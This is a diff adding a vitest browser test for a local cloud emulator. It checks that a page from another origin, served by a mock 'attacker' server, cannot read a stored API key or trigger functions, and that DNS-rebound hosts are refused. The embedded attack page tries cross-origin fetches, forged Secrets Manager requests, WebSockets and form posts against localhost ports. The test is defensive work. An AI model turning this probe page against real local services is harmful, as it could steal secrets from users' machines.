@@ -1,0 +1,167 @@
+import { once } from 'node:events';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { json } from 'node:stream/consumers';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { startSimulatedClaude, type SimulatedClaude } from '@agent-fleet/simulated-claude';
+import { functionResource, startFixture, type FixtureCloud } from '@agent-fleet/local-cloud/testing/cloud';
+import { CHROMIUM, chromium } from '#test/support/chromium.ts';
+
+/**
+ * A page of another origin, in a real browser, beside a running cloud: it reads nothing and starts nothing. Without a
+ * browser the test is skipped; packages/local-cloud/test/gateway/loopback.test.ts sends the same requests itself.
+ */
+
+const KEY = 'sk-ant-a-real-key';
+const PORTS = ['aws', 'api', 'claude'] as const;
+
+let cloud: FixtureCloud;
+let claude: SimulatedClaude;
+let attacker: Server;
+let urls: Readonly<Record<(typeof PORTS)[number], string>>;
+const runs = (): number => cloud.events.filter(({ code }) => code === 'lambda.log').length;
+
+beforeAll(async () => {
+  cloud = await startFixture(
+    {
+      resources: {
+        Worker: functionResource('worker'),
+        Key: { Type: 'AWS::SecretsManager::Secret', Properties: { Name: 'model-api-key' } },
+        MayInvoke: {
+          Type: 'AWS::Lambda::Permission',
+          Properties: {
+            Action: 'lambda:InvokeFunction',
+            FunctionName: { Ref: 'Worker' },
+            Principal: 'apigateway.amazonaws.com',
+          },
+        },
+        Api: { Type: 'AWS::ApiGateway::RestApi', Properties: { Name: 'fixture' } },
+        Any: {
+          Type: 'AWS::ApiGateway::Method',
+          Properties: {
+            RestApiId: { Ref: 'Api' },
+            ResourceId: { 'Fn::GetAtt': ['Api', 'RootResourceId'] },
+            HttpMethod: 'ANY',
+            AuthorizationType: 'NONE',
+            Integration: {
+              Type: 'AWS_PROXY',
+              IntegrationHttpMethod: 'POST',
+              Uri: {
+                'Fn::Sub':
+                  'arn:aws:apigateway:${AWS::Region}:lambda:path/2015-03-31/functions/${Worker.Arn}/invocations',
+              },
+            },
+          },
+        },
+        Deployment: {
+          Type: 'AWS::ApiGateway::Deployment',
+          Properties: { RestApiId: { Ref: 'Api' } },
+          DependsOn: 'Any',
+        },
+        Stage: {
+          Type: 'AWS::ApiGateway::Stage',
+          Properties: { RestApiId: { Ref: 'Api' }, DeploymentId: { Ref: 'Deployment' }, StageName: 'v1' },
+        },
+      },
+      code: {
+        worker: `export const handler = async () => {
+          console.log('ran');
+          return { statusCode: 200, headers: { 'access-control-allow-origin': '*' }, body: 'an answer' };
+        };`,
+      },
+    },
+    { apiPort: 0, secrets: { 'model-api-key': KEY } },
+  );
+  claude = await startSimulatedClaude({ latency: { kind: 'fixed', ms: 0 }, rules: [] });
+  urls = { aws: cloud.endpoint, api: `http://127.0.0.1:${new URL(cloud.apis[0]?.url ?? '').port}`, claude: claude.url };
+  attacker = createServer(serveAttack).listen(0, '127.0.0.1');
+  await once(attacker, 'listening');
+});
+afterAll(async () => {
+  attacker.close();
+  await claude.close();
+  await cloud[Symbol.asyncDispose]();
+});
+
+type Tried = Readonly<Record<(typeof PORTS)[number], readonly string[]>>;
+let tried: Tried | undefined;
+let whenTried: (() => void) | undefined;
+
+/** The page is loaded once it has reported: its picture is sent only then. */
+function serveAttack(request: IncomingMessage, response: ServerResponse): void {
+  if (request.url === '/picture') {
+    whenTried = () => response.writeHead(404).end();
+    if (tried !== undefined) whenTried();
+  } else if (request.url === '/report') {
+    void json(request).then((report) => {
+      tried = report as Tried;
+      response.end();
+      whenTried?.();
+    });
+  } else {
+    response.setHeader('content-type', 'text/html').end(page());
+  }
+}
+
+/** All that a page can send without permission, and what it can read with it. */
+const page = (): string => `<body><img src="/picture"><script>
+  const authorization = 'AWS4-HMAC-SHA256 Credential=test/20261128/us-east-1/secretsmanager/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}';
+  const said = (promise) => promise.then(async (answer) => answer.status + ' ' + (await answer.text()), () => 'nothing');
+  const socket = (url) => new Promise((done) => {
+    const tried = new WebSocket(url.replace('http', 'ws'));
+    tried.onopen = () => done('open');
+    tried.onerror = () => done('nothing');
+  });
+  (async () => {
+    const results = {};
+    for (const [name, url] of Object.entries(${JSON.stringify(urls)})) {
+      results[name] = [
+        await said(fetch(url)),
+        await said(fetch(url, { mode: 'no-cors' })),
+        await said(fetch(url, { mode: 'no-cors', method: 'POST', body: '{}', headers: { 'content-type': 'text/plain' } })),
+        await said(fetch(url, { method: 'POST', body: '{}', headers: { authorization, 'x-amz-target': 'secretsmanager.ListSecrets' } })),
+        await socket(url),
+      ];
+      const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'frame' });
+      const frame = Object.assign(document.createElement('iframe'), { name: 'frame' });
+      document.body.append(frame, form);
+      await new Promise((done) => { frame.onload = done; form.submit(); setTimeout(done, 500); });
+    }
+    await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
+  })();
+</script></body>`;
+
+async function open(host: string, port: string): Promise<string> {
+  tried = undefined;
+  whenTried = undefined;
+  return chromium(
+    '--dump-dom',
+    // As a page does whose name first resolves to its own server and then to this machine.
+    '--host-resolver-rules=MAP *.example 127.0.0.1',
+    `http://${host}:${port}/`,
+  );
+}
+
+const attackerPort = (): string => String((attacker.address() as AddressInfo).port);
+
+describe.skipIf(CHROMIUM === undefined)('a page in Chromium (apt-get install chromium)', () => {
+  test('that belongs to another site reads nothing and starts nothing', async () => {
+    const dom = await open('evil.example', attackerPort());
+    const nothing = ['nothing', '0 ', '0 ', 'nothing', 'nothing'];
+    expect(tried).toEqual({ aws: nothing, api: nothing, claude: nothing });
+    expect(dom).not.toContain(KEY);
+    expect(runs()).toBe(0);
+  }, 60_000);
+
+  test.each(PORTS)('whose name was rebound to the %s port is refused', async (name) => {
+    const dom = await open('rebound.example', new URL(urls[name]).port);
+    expect(dom).toContain('Forbidden: The Host of the request is not this machine');
+    expect(runs()).toBe(0);
+  });
+
+  test('of this machine reads what it is answered, so the page above was able to try', async () => {
+    await open('127.0.0.1', attackerPort());
+    expect(tried?.api[0]).toBe('200 an answer');
+    expect(runs()).toBeGreaterThan(0);
+  }, 60_000);
+});
